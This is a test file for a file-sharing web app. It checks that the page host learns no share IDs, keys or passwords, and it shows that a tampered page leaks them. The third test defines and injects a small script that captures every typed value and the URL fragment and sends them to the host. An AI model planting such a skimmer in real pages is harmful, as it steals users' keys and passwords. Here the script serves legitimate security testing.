// What the host of the page for people outside learns of a share: nothing, as long as it serves the published page.
import { sha256, writeFile } from '../local/files.js';
import { expect, test, type Sent } from '../outsideTest.js';
import { Outsider } from '../pages/outsider.js';
import { unlocking, unlockToken } from '../pages/unlocking.js';
import type { ForwardProxy } from '../proxy/forward.js';

/** Everything that the host got. Nothing has a body. */
function hostSaw(network: ForwardProxy, host: string): string {
  const exchanges = network.with(host);
  expect(exchanges.filter(({ method }) => method !== 'GET')).toEqual([]);
  return decodeURIComponent(exchanges.map(({ path, headers }) => `${path}\n${headers}`).join('\n'));
}

const idOf = ({ link }: Sent) => link.slice(-22);

async function openWithPassword(guest: Outsider, sent: Sent): Promise<string> {
  await guest.receiving.enter(sent.key);
  await guest.page.getByLabel('Password', { exact: true }).fill(sent.password);
  const [download] = await Promise.all([
    guest.page.waitForEvent('download'),
    guest.page.getByRole('button', { name: 'Open', exact: true }).click(),
  ]);
  return sha256(await download.path());
}

test('the host of the page learns nothing of a share', async ({ send, stranger, stack, network, watch }, info) => {
  watch.expect(/status of 403/);
  const file = await writeFile(info.outputPath('telltale-name.bin'), 20_000);
  const sent = await send({ files: [file.path], withPassword: true });
  const guest = await Outsider.open(await stranger(), sent.link);
  expect(await openWithPassword(guest, sent)).toBe(file.sha256);
  await guest.receiving.confirm();

  const saw = hostSaw(network, stack.endpoints.page);
  expect(saw).toContain('/config.json');
  for (const secret of [idOf(sent), sent.key, sent.password, sent.label, 'telltale-name']) {
    expect.soft(saw).not.toContain(secret);
  }
});

test('the host of the page gets an unlock token once', async ({ send, stranger, stack, network, watch }) => {
  watch.expect(/status of 403/);
  const sent = await send({ text: 'open sesame', withGate: true });
  const token = unlockToken(sent.link, sent.unlockSecret);
  const guest = await Outsider.open(await stranger(), unlocking(sent.link, token));
  await guest.receiving.enter(sent.key);
  await expect(guest.page.getByRole('heading', { name: 'You have a message' })).toBeVisible();

  const saw = hostSaw(network, stack.endpoints.page);
  expect(saw.split(token)).toHaveLength(2);
  for (const secret of [idOf(sent), sent.key, sent.password, sent.unlockSecret]) {
    expect.soft(saw).not.toContain(secret);
  }
});

const TELLTALE = `<script>
addEventListener('input', ({ target }) => void fetch('/told?' + encodeURIComponent(location.hash + ' ' + target.value)));
</script>`;

test('a changed page tells its host all that is entered', async ({ send, stranger, stack, network, watch }, info) => {
  watch.expect(/status of 40[34]/);
  const host = stack.endpoints.page;
  const published = await (await fetch(host)).text();
  const headers = { 'content-type': 'text/html; charset=utf-8' };
  network.inject({ origin: host, path: /^\/$/ }, { kind: 'answer', status: 200, headers, body: published + TELLTALE });

  const file = await writeFile(info.outputPath('offer.bin'), 20_000);
  const sent = await send({ files: [file.path], withPassword: true });
  const guest = await Outsider.open(await stranger(), sent.link);
  expect(await openWithPassword(guest, sent)).toBe(file.sha256);
  for (const secret of [idOf(sent), sent.key, sent.password]) {
    await expect.poll(() => hostSaw(network, host)).toContain(secret);
  }
});
